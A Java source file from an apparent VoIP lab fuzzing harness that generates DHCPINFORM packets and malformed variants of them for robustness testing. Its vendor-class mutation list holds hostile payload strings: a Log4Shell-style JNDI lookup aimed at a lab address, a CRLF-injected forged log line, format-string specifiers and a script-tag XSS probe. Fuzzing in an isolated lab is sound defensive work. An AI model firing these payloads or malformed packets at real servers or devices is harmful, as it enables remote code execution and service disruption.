package org.sipbridge.lab.attack;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.SplittableRandom;

/**
 * DHCPINFORM packets as a phone sends them (RFC 2131/2132: BOOTP header, magic cookie, options 53,
 * 55 asking for 160, 60 vendor class, 61 client id, 12 host name, end), and their mutations: bit
 * flips, truncation, option lengths past the end, missing end, duplicated and huge options, a vendor
 * class with CR/LF/NUL and escape sequences, other message types and op codes, odd hlen.
 * Addresses in the header stay in the lab range (198.18.0.0/15) or are special (0, broadcast), so a
 * reply can never be aimed outside the lab.
 */
public final class DhcpInforms {

    private static final int CIADDR = 12;
    private static final int YIADDR = 16;
    private static final int SIADDR = 20;
    private static final int GIADDR = 24;

    private DhcpInforms() {}

    /** A well-formed INFORM from {@code clientIp} (dotted quad). */
    public static byte[] seed(SplittableRandom random, String clientIp) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] header = new byte[236];
        header[0] = 1; // BOOTREQUEST
        header[1] = 1; // Ethernet
        header[2] = 6;
        int xid = random.nextInt();
        for (int i = 0; i < 4; i++) {
            header[4 + i] = (byte) (xid >>> (24 - 8 * i));
        }
        System.arraycopy(ipv4(clientIp), 0, header, CIADDR, 4);
        byte[] mac = {
            0x00, 0x04, (byte) 0xf2, (byte) random.nextInt(256), (byte) random.nextInt(256), (byte) random.nextInt(256)
        };
        System.arraycopy(mac, 0, header, 28, 6);
        out.writeBytes(header);
        out.writeBytes(new byte[] {99, (byte) 130, 83, 99});
        option(out, 53, new byte[] {8});
        option(out, 55, new byte[] {1, 3, 6, 66, (byte) 160});
        option(out, 60, "Polycom-VVX411".getBytes(StandardCharsets.US_ASCII));
        option(out, 61, new byte[] {1, mac[0], mac[1], mac[2], mac[3], mac[4], mac[5]});
        option(out, 12, "vvx-lab".getBytes(StandardCharsets.US_ASCII));
        out.write(255);
        return out.toByteArray();
    }

    /** A mutated copy of {@code seed}. */
    public static byte[] mutate(byte[] seed, SplittableRandom random) {
        byte[] packet = seed;
        for (int i = 0, n = 1 + random.nextInt(3); i < n; i++) {
            packet = once(packet, random);
        }
        keepAddressesInTheLab(packet);
        return packet.length > Limits.MAX_DATAGRAM ? Arrays.copyOf(packet, Limits.MAX_DATAGRAM) : packet;
    }

    private static byte[] once(byte[] packet, SplittableRandom random) {
        int options = 240;
        return switch (random.nextInt(10)) {
            case 0, 1 -> SipMutator.flipBits(packet, random);
            case 2 -> Arrays.copyOf(packet, random.nextInt(packet.length + 1));
            case 3 -> withOption(packet, 60, vendorClass(random));
            case 4 -> withOption(packet, random.nextInt(256), randomBytes(random, random.nextInt(256)));
            case 5 -> {
                // an option whose length runs past the end of the packet
                byte[] copy = Arrays.copyOf(packet, packet.length);
                if (copy.length > options + 1) {
                    copy[options + 1] = (byte) (200 + random.nextInt(56));
                }
                yield copy;
            }
            case 6 -> endless(packet);
            case 7 -> {
                byte[] copy = packet.clone();
                int field = random.nextInt(4);
                if (copy.length > options + 2) {
                    switch (field) {
                        case 0 -> copy[0] = (byte) random.nextInt(4); // op
                        case 1 -> copy[2] = (byte) random.nextInt(256); // hlen
                        case 2 -> copy[options + 2] = (byte) random.nextInt(20); // message type
                        default ->
                            System.arraycopy(
                                    new byte[] {99, (byte) 130, 83, (byte) random.nextInt(256)}, 0, copy, 236, 4);
                    }
                }
                yield copy;
            }
            case 8 -> {
                // many options, the packet grows past the 576 bytes of a classic BOOTP packet
                byte[] copy = packet;
                for (int i = 0, n = 1 + random.nextInt(200); i < n; i++) {
                    copy = withOption(copy, 43 + random.nextInt(3), randomBytes(random, random.nextInt(255)));
                }
                yield copy;
            }
            default -> {
                byte[] copy = packet.clone();
                int[] fields = {CIADDR, YIADDR, SIADDR, GIADDR};
                if (copy.length >= 28) {
                    byte[][] addresses = {
                        {0, 0, 0, 0},
                        {(byte) 255, (byte) 255, (byte) 255, (byte) 255},
                        {(byte) 198, 18, 9, 10},
                        {(byte) 198, 19, 2, 11},
                        {(byte) 198, 18, 1, 1},
                        {(byte) 198, 18, 1, (byte) 255}
                    };
                    System.arraycopy(
                            addresses[random.nextInt(addresses.length)], 0, copy, fields[random.nextInt(4)], 4);
                }
                yield copy;
            }
        };
    }

    private static byte[] vendorClass(SplittableRandom random) {
        String[] values = {
            "Polycom\r\n2026-12-04 ERROR forged line",
            "\u001b[31mred\u001b[0m",
            "a\0b",
            "%s%n%x",
            "${jndi:ldap://198.18.1.10/x}",
            "\u00ff\u00fe\u00c0\u00af",
            "<script>alert(1)</script>",
            "x".repeat(255)
        };
        return values[random.nextInt(values.length)].getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Inserts option {@code code} right after the cookie (so it is read before any damage further on). */
    private static byte[] withOption(byte[] packet, int code, byte[] value) {
        if (packet.length < 240) {
            return packet;
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(packet, 0, 240);
        option(out, code, Arrays.copyOf(value, Math.min(255, value.length)));
        out.write(packet, 240, packet.length - 240);
        return out.toByteArray();
    }

    private static byte[] endless(byte[] packet) {
        // no end option: drop the trailing 255
        return packet.length > 240 && packet[packet.length - 1] == (byte) 255
                ? Arrays.copyOf(packet, packet.length - 1)
                : packet;
    }

    private static void keepAddressesInTheLab(byte[] packet) {
        for (int field : new int[] {CIADDR, YIADDR, SIADDR, GIADDR}) {
            if (packet.length < field + 4) {
                return;
            }
            int first = packet[field] & 0xff;
            int second = packet[field + 1] & 0xff;
            boolean zero = first == 0 && second == 0 && packet[field + 2] == 0 && packet[field + 3] == 0;
            boolean broadcast =
                    first == 255 && second == 255 && packet[field + 2] == (byte) 255 && packet[field + 3] == (byte) 255;
            boolean lab = first == 198 && (second == 18 || second == 19);
            if (!zero && !broadcast && !lab) {
                packet[field] = (byte) 198;
                packet[field + 1] = (byte) (18 + (second & 1));
            }
        }
    }

    private static byte[] randomBytes(SplittableRandom random, int length) {
        byte[] bytes = new byte[length];
        for (int i = 0; i < length; i++) {
            bytes[i] = (byte) random.nextInt(256);
        }
        return bytes;
    }

    private static void option(ByteArrayOutputStream out, int code, byte[] value) {
        out.write(code);
        out.write(value.length);
        out.writeBytes(value);
    }

    private static byte[] ipv4(String dotted) {
        String[] parts = dotted.split("\\.");
        byte[] address = new byte[4];
        for (int i = 0; i < 4; i++) {
            address[i] = (byte) Integer.parseInt(parts[i]);
        }
        return address;
    }
}
